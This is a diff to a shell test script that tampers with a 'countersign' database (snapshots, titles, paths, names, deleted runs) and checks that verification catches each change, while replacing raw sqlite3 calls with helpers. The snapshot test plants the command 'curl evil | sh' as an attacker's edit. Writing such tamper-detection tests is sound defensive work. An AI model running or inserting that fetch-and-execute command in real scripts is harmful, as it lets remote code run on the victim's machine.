@@ -7,9 +7,9 @@
 # table made to agree). Each fails verify, naming what was changed.
 . "$(dirname "$0")/lib.sh"
 
-export COUNTERSIGN_TEST_PIN_COST=min COUNTERSIGN_DB="$T/base.db"
-BASE=$T/base.db
-TAMPER="/usr/bin/python3 $SRC/tests/cli/tamper.py"
+BASE=$(db_new base)
+export COUNTERSIGN_TEST_PIN_COST=min COUNTERSIGN_DB="$BASE"
+TAMPER=tamper
 mkdir fx
 cat >fx/deploy.json <<'EOF'
 {
@@ -45,8 +45,7 @@ by() {
 	run "$CS" "$@" --engineer "$who" --pin-stdin <"$T/pin"
 }
 fresh() {
-	DB=$T/$1.db
-	cp "$BASE" "$DB"
+	DB=$(db_clone "$BASE" "$1")
 	$TAMPER "$DB" guards-off
 }
 # caught DESC RUN WORD...: verify, and verify RUN unless RUN is "", fail
@@ -87,42 +86,41 @@ by bob note "$R2" "a run someone wants forgotten"
 expect_rc 0 "the second run is recorded"
 run "$CS" verify
 expect_rc 0 "the untouched record verifies"
-sqlite3 "$BASE" "pragma wal_checkpoint(truncate)" >/dev/null
-HEAD=$(sqlite3 "$BASE" "select hash from events where chain = '$R' order by seq desc limit 1")
-SHA=$(sqlite3 "$BASE" "select checklist_sha from runs where id = '$R'")
+HEAD=$(db_sql "$BASE" "select hash from events where chain = '$R' order by seq desc limit 1")
+SHA=$(db_sql "$BASE" "select checklist_sha from runs where id = '$R'")
 
 # --- the checklist snapshot rewritten ---------------------------------------------
 fresh snapshot
-sqlite3 "$DB" "update checklists set text = replace(text, 'echo all good', 'curl evil | sh')"
-[ "$(sqlite3 "$DB" "select count(*) from checklists where text like '%curl evil | sh%'")" = 1 ] &&
+db_sql "$DB" "update checklists set text = replace(text, 'echo all good', 'curl evil | sh')"
+[ "$(db_sql "$DB" "select count(*) from checklists where text like '%curl evil | sh%'")" = 1 ] &&
 	ok || fail "the snapshot now holds the attacker's command"
 caught "the checklist snapshot was rewritten" "$R" "checklist" "$(printf '%.12s' "$SHA")"
 run "$CS" --db "$DB" verify "$R" --anchor "$HEAD"
 expect_rc 1 "verify RUN --anchor HEAD after the snapshot was rewritten"
 # The same text under its own new SHA-256, the run's row pointed at it.
 fresh snapshot-moved
-sqlite3 "$DB" "insert into checklists (sha256, text) select
+db_sql "$DB" "insert into checklists (sha256, text) select
 	'$(printf '%064d' 0)', replace(text, 'echo all good', 'curl evil | sh') from checklists where sha256 = '$SHA';
 	update runs set checklist_sha = '$(printf '%064d' 0)' where id = '$R'"
 caught "the run's row was pointed at another snapshot" "$R" "$R"
 
 # --- a run's title, its path ---------------------------------------------------------
 fresh title
-sqlite3 "$DB" "update runs set title = 'Routine restart' where id = '$R'"
+db_sql "$DB" "update runs set title = 'Routine restart' where id = '$R'"
 caught "the run's title was changed" "$R" "$R" "title" "Routine restart"
 fresh path
-sqlite3 "$DB" "update runs set path = '/srv/checklists/other.json' where id = '$R'"
+db_sql "$DB" "update runs set path = '/srv/checklists/other.json' where id = '$R'"
 caught "the run's path was changed" "$R" "$R" "path"
 
 # --- an engineer's full name -------------------------------------------------------
 fresh fullname
-sqlite3 "$DB" "update engineers set full_name = 'Mallory Example' where name = 'bob'"
+db_sql "$DB" "update engineers set full_name = 'Mallory Example' where name = 'bob'"
 caught "bob's full name was changed" "" "engineers" "bob"
 
 # --- a whole run removed, its row and events (derived table agreeing) ---------------
 fresh deleted
 $TAMPER "$DB" delete-run "$R2"
-[ "$(sqlite3 "$DB" "select count(*) from events where chain = '$R2'")$(sqlite3 "$DB" \
+[ "$(db_sql "$DB" "select count(*) from events where chain = '$R2'")$(db_sql "$DB" \
 	"select count(*) from runs where id = '$R2'")" = 00 ] && ok || fail "run $R2 is gone"
 caught "run $R2 was removed with its events" "" "$R2" "removed"
 
